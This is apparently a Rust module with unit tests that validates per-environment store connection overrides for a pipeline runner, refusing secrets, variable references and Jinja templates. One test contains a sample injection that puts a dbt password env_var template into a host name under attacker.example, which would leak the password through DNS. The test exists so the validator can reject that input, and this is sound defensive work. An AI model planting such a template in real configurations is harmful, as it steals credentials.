//! Store connection overrides a human wrote for an environment (the GitOps values' `stores:`,
//! which the chart passes to `dk run` as JSON): non-secret connection keys that win over the
//! artifact's Store manifests, so prod can point at another host than dev.
//!
//! Overrides are refused rather than ignored when they cannot do what they say: a store the run
//! does not use, a key the store's connector does not read, a value of the wrong type. A silent
//! no-op would send prod's data to dev's host. Secrets are refused too: they come from the
//! environment (Kubernetes Secrets), never from a values file in Git.

use std::collections::BTreeMap;

use dk_manifest::model::{connection_keys, looks_secret};
use serde_json::{Map, Value};

use crate::contract::{CREDENTIAL_SETTINGS, variable};

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum OverrideError {
    /// The reason comes from the JSON parser, which names positions, not values.
    #[error("not valid JSON: {0}")]
    Json(String),
    #[error("must be a JSON object of stores, {{\"<store>\": {{\"<key>\": <value>}}}}")]
    NotAMap,
    #[error("store '{0}': the override must be an object of connection keys")]
    StoreNotAMap(String),
    #[error(
        "store '{store}': `{key}` is a secret; secrets come from the environment (a Kubernetes Secret), never from overrides"
    )]
    Secret { store: String, key: String },
    #[error(
        "store '{store}': `{key}` is a ${{VAR}} reference; overrides are literal values, secrets come from the environment"
    )]
    Reference { store: String, key: String },
    /// dbt renders its profile as Jinja: an override holding a template could make it expand
    /// any variable of its environment (the password among them) into a host name or a path.
    #[error(
        "store '{store}': `{key}` holds a template (`{{{{`, `{{%` or `{{#`); overrides are literal values"
    )]
    Template { store: String, key: String },
    #[error(
        "store '{store}': `{key}` is not a connection key of {store_type} stores (known: {known})"
    )]
    UnknownKey {
        store: String,
        key: String,
        store_type: String,
        known: String,
    },
    #[error("store '{store}': `{key}` must be {expected}")]
    BadValue {
        store: String,
        key: String,
        expected: &'static str,
    },
    #[error("store '{store}' is not a store of this run (its stores: {stores})")]
    UnknownStore { store: String, stores: String },
}

impl OverrideError {
    /// What to do about it.
    pub fn hint(&self) -> &'static str {
        match self {
            OverrideError::Json(_) | OverrideError::NotAMap | OverrideError::StoreNotAMap(_) => {
                "write the values' stores as a map: stores: {warehouse: {host: db.prod.example.com, port: 5432}}"
            }
            OverrideError::Template { .. } => {
                "write the literal value: a host, port, database or path, without {{ }}, {% %} or {# #}"
            }
            OverrideError::Secret { .. } | OverrideError::Reference { .. } => {
                "remove it from stores: and declare it in the values' secrets: (a secretKeyRef to a Kubernetes Secret)"
            }
            OverrideError::UnknownKey { .. } | OverrideError::BadValue { .. } => {
                "docs/runtime-contract.md lists each store type's connection keys"
            }
            OverrideError::UnknownStore { .. } => {
                "name a Store behind one of the package's inputs or outputs (`dk run --dry-run` lists them)"
            }
        }
    }
}

/// Connection overrides by store name.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct StoreOverrides(BTreeMap<String, Map<String, Value>>);

impl StoreOverrides {
    /// Reads `{"<store>": {"<key>": <value>, ...}, ...}`. Messages never quote values.
    pub fn parse(json: &str) -> Result<StoreOverrides, OverrideError> {
        let value: Value =
            serde_json::from_str(json).map_err(|err| OverrideError::Json(err.to_string()))?;
        let Value::Object(stores) = value else {
            return Err(OverrideError::NotAMap);
        };
        stores
            .into_iter()
            .map(|(store, keys)| match keys {
                Value::Object(keys) => Ok((store, keys)),
                _ => Err(OverrideError::StoreNotAMap(store)),
            })
            .collect::<Result<_, _>>()
            .map(StoreOverrides)
    }

    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// Whether `store` has an override.
    pub fn overrides(&self, store: &str) -> bool {
        self.0.contains_key(store)
    }

    /// `connection` with the overrides of `store` merged over it. A key refused (a secret of the
    /// store's `secrets`, a credential, a key its built-in connector does not read, a value of
    /// the wrong type) is an error naming the store and the key.
    pub fn apply(
        &self,
        store: &str,
        store_type: &str,
        connection: &Map<String, Value>,
        secrets: &BTreeMap<String, String>,
    ) -> Result<Map<String, Value>, OverrideError> {
        let mut merged = connection.clone();
        let Some(overrides) = self.0.get(store) else {
            return Ok(merged);
        };
        let keys = connection_keys(store_type);
        for (key, value) in overrides {
            let error = |kind: fn(String, String) -> OverrideError| kind(store.into(), key.clone());
            let known = keys.and_then(|keys| keys.iter().find(|k| k.key == key));
            let credential = known.is_some_and(|k| CREDENTIAL_SETTINGS.contains(&k.setting));
            if secrets.contains_key(key) || credential || looks_secret(key) {
                return Err(error(|store, key| OverrideError::Secret { store, key }));
            }
            if value.as_str().and_then(variable).is_some() {
                return Err(error(|store, key| OverrideError::Reference { store, key }));
            }
            if value
                .as_str()
                .is_some_and(|text| ["{{", "{%", "{#"].iter().any(|open| text.contains(open)))
            {
                return Err(error(|store, key| OverrideError::Template { store, key }));
            }
            match (keys, known) {
                (Some(keys), None) => {
                    return Err(OverrideError::UnknownKey {
                        store: store.into(),
                        key: key.clone(),
                        store_type: store_type.into(),
                        known: keys
                            .iter()
                            .filter(|k| !CREDENTIAL_SETTINGS.contains(&k.setting))
                            .map(|k| k.key)
                            .collect::<Vec<_>>()
                            .join(", "),
                    });
                }
                (Some(_), Some(known)) if !known.value.accepts(value) => {
                    return Err(OverrideError::BadValue {
                        store: store.into(),
                        key: key.clone(),
                        expected: known.value.describe(),
                    });
                }
                // Other connectors' connections are read by the pipeline alone: any scalar.
                (None, _) if !plain(value) => {
                    return Err(OverrideError::BadValue {
                        store: store.into(),
                        key: key.clone(),
                        expected: "a string, a number, a boolean or a list of strings",
                    });
                }
                _ => {}
            }
            // The override is the setting: another spelling of it in the manifest
            // (`dbname` for `database`) must not win over it.
            if let (Some(keys), Some(known)) = (keys, known) {
                for other in keys.iter().filter(|k| k.setting == known.setting) {
                    merged.remove(other.key);
                }
            }
            merged.insert(key.clone(), value.clone());
        }
        Ok(merged)
    }

    /// Refuses an override of a store none of `used` (the stores of the run) is.
    pub fn check_used<'a>(
        &self,
        used: impl IntoIterator<Item = &'a str>,
    ) -> Result<(), OverrideError> {
        let mut used: Vec<&str> = used.into_iter().collect();
        used.sort_unstable();
        used.dedup();
        match self.0.keys().find(|store| !used.contains(&store.as_str())) {
            Some(store) => Err(OverrideError::UnknownStore {
                store: store.clone(),
                stores: match used.is_empty() {
                    true => "none".into(),
                    false => used.join(", "),
                },
            }),
            None => Ok(()),
        }
    }
}

fn plain(value: &Value) -> bool {
    match value {
        Value::String(_) | Value::Number(_) | Value::Bool(_) => true,
        Value::Array(items) => items.iter().all(Value::is_string),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn map(value: Value) -> Map<String, Value> {
        value.as_object().cloned().unwrap()
    }

    fn no_secrets() -> BTreeMap<String, String> {
        BTreeMap::new()
    }

    #[test]
    fn overrides_win_over_the_manifest_and_keep_the_rest() {
        let overrides = StoreOverrides::parse(
            r#"{"warehouse": {"host": "db.prod", "port": 6432, "dbname": "prod"}}"#,
        )
        .unwrap();
        let manifest =
            map(json!({"host": "db.dev", "port": 5432, "database": "dev", "user": "dk"}));
        let merged = overrides
            .apply("warehouse", "postgres", &manifest, &no_secrets())
            .unwrap();
        // `dbname` replaces `database`: both spell the same setting.
        assert_eq!(
            Value::Object(merged),
            json!({"host": "db.prod", "port": 6432, "user": "dk", "dbname": "prod"})
        );
        // Another store is untouched.
        assert_eq!(
            overrides
                .apply("lake", "s3", &map(json!({"bucket": "b"})), &no_secrets())
                .unwrap(),
            map(json!({"bucket": "b"}))
        );
        assert!(overrides.overrides("warehouse") && !overrides.overrides("lake"));
        // Connectors dk does not know: any plain key, the pipeline reads DK_CONTEXT.
        let custom = StoreOverrides::parse(
            r#"{"api": {"base_url": "https://prod", "retries": 3, "regions": ["eu", "us"]}}"#,
        )
        .unwrap();
        let merged = custom
            .apply(
                "api",
                "rest",
                &map(json!({"base_url": "https://dev"})),
                &no_secrets(),
            )
            .unwrap();
        assert_eq!(merged["base_url"], "https://prod");
        assert_eq!(merged["regions"], json!(["eu", "us"]));
    }

    #[test]
    fn malformed_json_is_refused_without_quoting_values() {
        let err = StoreOverrides::parse(r#"{"warehouse": {"host": "hunter2""#).unwrap_err();
        assert!(matches!(err, OverrideError::Json(_)), "{err:?}");
        assert!(!err.to_string().contains("hunter2"), "{err}");
        assert_eq!(
            StoreOverrides::parse(r#"["warehouse"]"#).unwrap_err(),
            OverrideError::NotAMap
        );
        let err = StoreOverrides::parse(r#"{"warehouse": "hunter2"}"#).unwrap_err();
        assert_eq!(err, OverrideError::StoreNotAMap("warehouse".into()));
        assert!(!err.to_string().contains("hunter2"));
    }

    #[test]
    fn secrets_are_refused_by_key() {
        let secrets = BTreeMap::from([("user".to_owned(), "${PGUSER}".to_owned())]);
        for (store_type, key) in [
            ("postgres", "password"),
            ("postgres", "user"),
            ("s3", "access_key_id"),
            ("s3", "secret-access-key"),
            ("kafka", "sasl_password"),
            ("rest", "api_token"),
            ("rest", "ApiKey"),
        ] {
            let overrides =
                StoreOverrides::parse(&json!({"s": {key: "hunter2"}}).to_string()).unwrap();
            let err = overrides
                .apply("s", store_type, &Map::new(), &secrets)
                .unwrap_err();
            assert_eq!(
                err,
                OverrideError::Secret {
                    store: "s".into(),
                    key: key.into()
                },
                "{store_type} {key}"
            );
            assert!(!err.to_string().contains("hunter2"));
        }
        let reference = StoreOverrides::parse(r#"{"s": {"host": "${PGHOST}"}}"#).unwrap();
        assert!(matches!(
            reference.apply("s", "postgres", &Map::new(), &no_secrets()),
            Err(OverrideError::Reference { .. })
        ));
    }

    /// dbt renders profiles.yml as Jinja: `{{ env_var('DK_DBT_PASSWORD') }}` in a host would
    /// send the password to a DNS server.
    #[test]
    fn templates_are_refused_since_dbt_would_expand_them() {
        for (store_type, key, value) in [
            (
                "postgres",
                "host",
                "{{ env_var('DK_DBT_PASSWORD') }}.attacker.example",
            ),
            ("duckdb", "path", "/tmp/{% if true %}x{% endif %}.duckdb"),
            ("postgres", "database", "db{# comment #}"),
        ] {
            let overrides = StoreOverrides::parse(&json!({"s": {key: value}}).to_string()).unwrap();
            let err = overrides
                .apply("s", store_type, &Map::new(), &no_secrets())
                .unwrap_err();
            assert!(
                matches!(&err, OverrideError::Template { key: k, .. } if k == key),
                "{store_type} {key}: {err}"
            );
            assert!(!err.to_string().contains(value));
        }
    }

    #[test]
    fn keys_and_values_a_connector_does_not_read_are_refused() {
        let typo = StoreOverrides::parse(r#"{"wh": {"hots": "db.prod"}}"#).unwrap();
        let err = typo
            .apply("wh", "postgres", &Map::new(), &no_secrets())
            .unwrap_err();
        assert_eq!(
            err.to_string(),
            "store 'wh': `hots` is not a connection key of postgres stores (known: host, port, database, dbname, user, username, sslmode)"
        );
        let port = StoreOverrides::parse(r#"{"wh": {"port": "http"}}"#).unwrap();
        assert!(matches!(
            port.apply("wh", "postgres", &Map::new(), &no_secrets()),
            Err(OverrideError::BadValue { .. })
        ));
        let nested = StoreOverrides::parse(r#"{"api": {"tls": {"ca": "x"}}}"#).unwrap();
        assert!(matches!(
            nested.apply("api", "rest", &Map::new(), &no_secrets()),
            Err(OverrideError::BadValue { .. })
        ));
    }

    #[test]
    fn an_override_of_a_store_the_run_does_not_use_is_refused() {
        let overrides =
            StoreOverrides::parse(r#"{"warehouse": {"host": "db"}, "wharehouse": {"host": "db"}}"#)
                .unwrap();
        assert_eq!(
            overrides
                .check_used(["warehouse", "files", "warehouse"])
                .unwrap_err()
                .to_string(),
            "store 'wharehouse' is not a store of this run (its stores: files, warehouse)"
        );
        let right = StoreOverrides::parse(r#"{"warehouse": {"host": "db"}}"#).unwrap();
        assert_eq!(right.check_used(["warehouse", "files"]), Ok(()));
        assert!(StoreOverrides::default().check_used([]).is_ok());
    }
}
